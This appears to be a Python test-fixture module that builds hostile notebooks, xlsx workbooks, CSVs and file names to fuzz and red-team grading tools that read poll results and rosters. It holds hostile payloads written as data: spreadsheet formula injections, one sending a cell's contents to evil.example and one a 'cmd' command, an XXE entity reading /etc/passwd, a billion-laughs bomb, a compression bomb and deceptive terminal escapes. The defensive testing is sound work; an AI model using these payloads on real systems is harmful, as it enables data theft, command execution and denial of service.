"""Hostile files for every input the tools read besides a submission folder: platform downloads, Gradescope
uploads, poll results (xlsx, CSV), rosters. Built in the tests (nothing binary is committed).

Each builder returns plain data (bytes, or a list of zip entries) so the red-team tests, the hypothesis
fuzzers (``test_input_fuzz.py``) and ``benchmarks/fuzz_inputs.py`` share one corpus.
"""
from __future__ import annotations

import io
import re
import zipfile

from openpyxl import Workbook

# --- notebooks that are not notebooks Jupyter writes ------------------------------------------------------

POISON_JSON = {
    "nested 50,000 deep": b'{"cells": ' + b"[" * 50_000 + b"]" * 50_000 + b"}",
    "nested 120 deep": b'{"cells": [], "metadata": ' + b'{"a": ' * 120 + b"1" + b"}" * 120 + b"}",
    "5,000-digit number": b'{"cells": [], "nbformat": ' + b"9" * 5000 + b"}",
    "5,000-digit float": b'{"cells": [], "nbformat": 4, "x": 1.' + b"1" * 5000 + b"}",
    "NaN": b'{"cells": [], "nbformat": NaN}',
    "1e99999": b'{"cells": [], "nbformat": 4, "x": 1e99999}',
    "lone surrogate": b'{"cells": [{"cell_type": "code", "source": "\\ud800", "metadata": {}}], "nbformat": 4}',
    "not UTF-8": b'{"cells": "\xff\xfe"}',
    "truncated": b'{"cells": [{"cell_type": "code", "source": "import nu',
    "a list": b"[1, 2, 3]",
    "empty": b"",
}

# Names a student chooses (file names, full names) that must act on nothing.
ESCAPES = ["\x1b[2J\x1b[Hgraded: 100/100", "\x1b]0;pwned\x07", "\u202eb.ipynb\u202c", "a\rALL TESTS PASSED",
           "\x9b31mred", "tab\there", "bell\x07"]
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+SUM(1,2)", "-2+3+cmd|' /C calc'!A0", "@SUM(A1)",
            "\t=1+1", "\uff1dcmd"]
RAW_CONTROL = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069\u2028\u2029"
                         "\ud800-\udfff]")


# --- xlsx -------------------------------------------------------------------------------------------------

def honest_xlsx(rows: list[list], title: str = "votes") -> bytes:
    workbook = Workbook()
    sheet = workbook.active
    sheet.title = title
    for row in rows:
        sheet.append(row)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def rewrite_parts(xlsx: bytes, change) -> bytes:
    """The workbook with ``change(name, data) -> bytes | None`` applied to every part (None drops it)."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(xlsx)) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            data = change(info.filename, source.read(info))
            if data is not None:
                target.writestr(info.filename, data)
    return out.getvalue()


def _sheet(change_sheet):
    return lambda name, data: change_sheet(data) if name.startswith("xl/worksheets/") else data


LAUGHS = (b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
          + b"".join(b'<!ENTITY lol%d "%s">' % (i, (b"&lol%d;" % (i - 1) if i > 1 else b"&lol;") * 10)
                     for i in range(1, 10))
          + b']><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>&lol9;</t></si></sst>')


def hostile_xlsx(honest: bytes) -> dict[str, bytes]:
    """Damaged and lying workbooks made from ``honest``: each must cost one line, never a hang or a traceback."""
    def far_row(data: bytes) -> bytes:
        data = re.sub(rb'<dimension ref="[^"]*"/>', b'<dimension ref="A1:XFD1048576"/>', data)
        return data.replace(b"</sheetData>", b'<row r="1048576"><c r="A1048576"><v>1</v></c></row></sheetData>')

    def wide(data: bytes) -> bytes:
        return data.replace(b"</sheetData>", b'<row r="2000"><c r="XFD2000"><v>1</v></c></row></sheetData>')

    def xxe(data: bytes) -> bytes:
        return data.replace(b"<worksheet", b'<!DOCTYPE w [<!ENTITY e SYSTEM "file:///etc/passwd">]><worksheet', 1) \
            .replace(b"</sheetData>", b'<row r="99"><c r="A99" t="inlineStr"><is><t>&e;</t></is></c></row>'
                                      b"</sheetData>")

    def bad_index(data: bytes) -> bytes:
        return data.replace(b"</sheetData>", b'<row r="99"><c r="A99" t="s"><v>99999</v></c></row></sheetData>')

    def long_row_number(data: bytes) -> bytes:
        return data.replace(b"</sheetData>", b'<row r="' + b"9" * 5000 + b'"><c><v>1</v></c></row></sheetData>')

    def bomb(data: bytes) -> bytes:      # 40 MB of cells, compresses to ~40 kB
        return data.replace(b"</sheetData>", b'<row r="3"><c r="A3"><v>1</v></c></row>'
                            + b"<!--" + b" " * (40 << 20) + b"--></sheetData>")

    def not_xml(data: bytes) -> bytes:
        return data[: len(data) // 2]

    return {
        "lying <dimension> and a row at 1,048,576": rewrite_parts(honest, _sheet(far_row)),
        "a cell at column XFD": rewrite_parts(honest, _sheet(wide)),
        "billion laughs in sharedStrings.xml": _with_member(honest, "xl/sharedStrings.xml", LAUGHS),
        "external entity (XXE)": rewrite_parts(honest, _sheet(xxe)),
        "shared string index out of range": rewrite_parts(honest, _sheet(bad_index)),
        "5,000-digit row number": rewrite_parts(honest, _sheet(long_row_number)),
        "a 40 MB sheet": rewrite_parts(honest, _sheet(bomb)),
        "a sheet cut in half": rewrite_parts(honest, _sheet(not_xml)),
        "no workbook.xml": rewrite_parts(honest, lambda n, d: None if n == "xl/workbook.xml" else d),
        "the file cut in half": honest[: len(honest) // 2],
        "not a zip": b"\x00\x01 definitely not a workbook" * 10,
    }


def _with_member(xlsx: bytes, name: str, data: bytes) -> bytes:
    changed = rewrite_parts(xlsx, lambda n, d: data if n == name else d)
    if name in zipfile.ZipFile(io.BytesIO(xlsx)).namelist():
        return changed
    out = io.BytesIO(changed)
    with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as target:
        target.writestr(name, data)
    return out.getvalue()


def hostile_csv() -> dict[str, bytes]:
    header = b"question_id,option,option_text,votes\r\n"
    return {
        "NUL bytes": header + b"sigmoid-binary,A,\x00,1\r\n",
        "not UTF-8": header + b"sigmoid-binary,A,caf\xe9,1\r\n",
        "2,000 columns": b",".join([b"x"] * 2000) + b"\r\n",
        "30,000 rows": header + b"sigmoid-binary,A,,1\r\n" * 30_000,
        "a 200,000-character cell": header + b'sigmoid-binary,A,"' + b"x" * 200_000 + b'",1\r\n',
        "a vote of 1e999": header + b"sigmoid-binary,A,,1e999\r\n",
        "a vote of nan": header + b"sigmoid-binary,A,,nan\r\n",
        "escape sequences": header + "sigmoid-binary,\x1b[2J,\u202e,1\r\n".encode(),
    }
